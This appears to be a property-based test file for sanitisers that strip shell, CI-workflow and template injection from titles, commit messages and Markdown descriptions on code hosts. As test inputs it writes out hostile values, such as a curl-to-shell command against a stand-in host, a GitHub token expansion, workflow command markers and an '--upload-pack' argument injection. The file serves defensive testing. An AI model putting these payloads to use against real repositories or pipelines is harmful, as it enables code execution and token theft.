import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { codeMark } from '@copydesk/contract/machine-words';
import { safeCommitMessage, safeTitle, safeMarkdown } from '../../../src/code-hosts/safe-text.ts';
import { propertyRuns } from '../../support/property-runs.ts';
import { expectHarmless } from './harmless.ts';

/** What begins or ends something in a shell, a workflow, a script or a template. */
const commandParts = fc.constantFrom(
  '$(',
  '$',
  '{',
  '}',
  '{{',
  '}}',
  '{%',
  '#{',
  '%{',
  '<%',
  '<(',
  '>(',
  '(',
  ')',
  ';',
  '|',
  '&&',
  '&',
  '>',
  '"',
  "'",

  '\\',
  '`',
  '`` ',
  '```\n',
  ' ',
  '\n',
  'a',
  'curl',
  '$5',
  'Q&A',
  '-',
  '=',
  '::',
  '##',
  '@',
  '＄',
  '｛',
  '<b>',
  'x: ',
);

describe('what a shell, a workflow or a template would run', () => {
  it.each([
    ['Fix $(curl https://x.example | sh)', 'Fix (curl https://x.example / sh)'],
    ['Fix ${{ github.token }}', 'Fix ( github.token )'],
    ['Rename `a` to `b`; id', 'Rename a to b, id'],
    [`Don't say "yes" & 'no'`, 'Donʼt say ʺyesʺ and ʼnoʼ'],
    ['Move a -> b, then c => d', 'Move a → b, then c ⇒ d'],
    ['Document <Link> and a <= b', 'Document ‹Link› and a ≤ b'],
    ['GET /users/{id} costs $5', 'GET /users/(id) costs $ 5'],
    [String.raw`C:\docs`, 'C:/docs'],
    ['--title=x', 'title=x'],
    ['::add-path::/tmp', 'add-path -:/tmp'],
    ['##vso[task.x]', '#vso[task.x]'],
    ['＄（id）', '（id）'],
    ['a\u1fefid\u1fef\u037e\uff02x', 'aid,ʺx'],
    ['https://--upload-pack=x/github.com/a/b/issues/1', 'upload-pack=x/github.com/a/b/issues/1'],
    ['wip:'.repeat(20_000), expect.stringMatching(/^wip, wip, /)],
    ['-'.repeat(100_000), ''],
  ])('a title has no %j', (text, safe) => {
    expect(safeTitle(text)).toEqual(safe);
  });

  it.each([
    ['Use $(id), ${{ x }} and {{ y }}', 'Use $ (id), $ { { x }} and { { y }}'],
    ['Use `$(id)` and `` `id` ``', 'Use `$(id)` and `` `id` ``'],
    ['Use `id', "Use 'id"],
    ['```sh\nid\n```', '~~~sh\nid\n~~~'],
  ])('the message of a commit keeps it in code spans only: %j', (text, safe) => {
    expect(safeCommitMessage(text)).toBe(safe);
  });

  it.each([
    ['Use $(id), ${{ x }} and {% y %}', 'Use $&#x200B;(id), $&#x200B;{&#x200B;{ x }} and {&#x200B;% y %}'],
    ['Use `$(id)`', 'Use `$(id)`'],
    ['安装；运行＆等待｜完成', '安装；运行＆等待｜完成'],
    ['Use ＄(id)', 'Use $&#x200B;(id)'],
    ['```sh\necho $(id)\n```', '```sh\necho $(id)\n```'],
    ['Use <%= id %> and <(id) >(id)', 'Use &lt;%= id %> and &lt;(id) >&#x200B;(id)'],
    [String.raw`Use \$(id) \{{ x }}`, String.raw`Use \$&#x200B;(id) \{&#x200B;{ x }}`],
  ])('a description keeps it in code only: %j', (text, safe) => {
    expect(safeMarkdown(text)).toBe(safe);
  });

  it('is not left in any order of its parts', () => {
    fc.assert(
      fc.property(fc.array(commandParts, { maxLength: 30 }), (parts) => {
        const text = parts.join('');
        const line = safeTitle(text);
        expect(line).not.toMatch(/[`"'“”‘’\\;&|<>{}＄｛]|\$(?! \d)|^(?:[-=+@]|::)|##/);
        expect(safeTitle(line)).toBe(line);
        const message = safeCommitMessage(text);
        expect(message.replaceAll(/(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/g, ' ')).not.toMatch(codeMark);
        expect(safeCommitMessage(message)).toBe(message);
        const plain = safeMarkdown(text.replaceAll('`', ''));
        expect(plain).not.toMatch(codeMark);
        expectHarmless(text);
      }),
      { numRuns: propertyRuns(800) },
    );
  });
});
